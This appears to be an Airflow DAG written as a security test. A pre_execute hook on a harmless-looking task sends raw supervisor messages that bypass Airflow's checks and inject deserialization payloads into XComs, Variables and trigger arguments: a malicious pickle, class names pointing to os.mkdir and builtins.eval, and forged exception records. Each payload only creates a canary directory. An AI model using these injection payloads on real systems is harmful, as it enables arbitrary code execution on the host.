"""Values that run code where they are read: a pickle as an XCom, names of functions where Airflow expects classes,
in XComs, in Variables and in the arguments of a trigger."""

import base64
import os
import pickle

import msgspec
from airflow.sdk import DAG, task

PLACE = "/tmp/autograder-canary"


class Poison:
    def __reduce__(self):
        return os.mkdir, (PLACE,)


ERROR = {"exc_cls_name": "os.mkdir", "args": [PLACE], "kwargs": {}}
VALUES = [
    base64.b64encode(pickle.dumps(Poison())).decode(),
    {"__classname__": "os.mkdir", "__version__": 0, "__data__": PLACE},
    {"__classname__": "builtins.eval", "__version__": 1, "__data__": f"__import__('os').mkdir({PLACE!r})"},
    {"__type": "airflow_exc_ser", "__var": {"__type": "dict", "__var": ERROR}},
    {"__type": "base_exc_ser", "__var": {"__type": "dict", "__var": ERROR}},
    {"__type": "START_TRIGGER_ARGS", "trigger_cls": "os.mkdir", "trigger_kwargs": {"path": PLACE}},
]


def send(**body):
    """As Airflow's own code would, without what it checks."""
    data = msgspec.msgpack.encode([90, body, None])
    os.write(0, len(data).to_bytes(4, "big") + data)
    length = int.from_bytes(os.read(0, 4), "big")
    while length > 0:
        length -= len(os.read(0, length))


def poison(context):
    ti = context["ti"]
    own = {"dag_id": ti.dag_id, "run_id": ti.run_id, "task_id": ti.task_id, "map_index": -1}
    for number, value in enumerate(VALUES):
        send(type="SetXCom", key=f"poison_{number}", value=value, **own)
        send(type="GetXCom", key=f"poison_{number}", **own)
        send(type="PutVariable", key=f"poison_{number}", value=str(value), description=None)
    print("TRIED", flush=True)
    send(
        type="DeferTask",
        state="deferred",
        classpath="airflow.providers.standard.triggers.temporal.TimeDeltaTrigger",
        trigger_kwargs={"poison": VALUES},
        trigger_timeout=None,
        next_method="execute",
        next_kwargs={"poison": VALUES},
    )
    os._exit(0)


with DAG("anatomy_of_a_failure", schedule=None):

    @task(retries=1, pre_execute=poison)
    def load_orders(): ...

    load_orders()
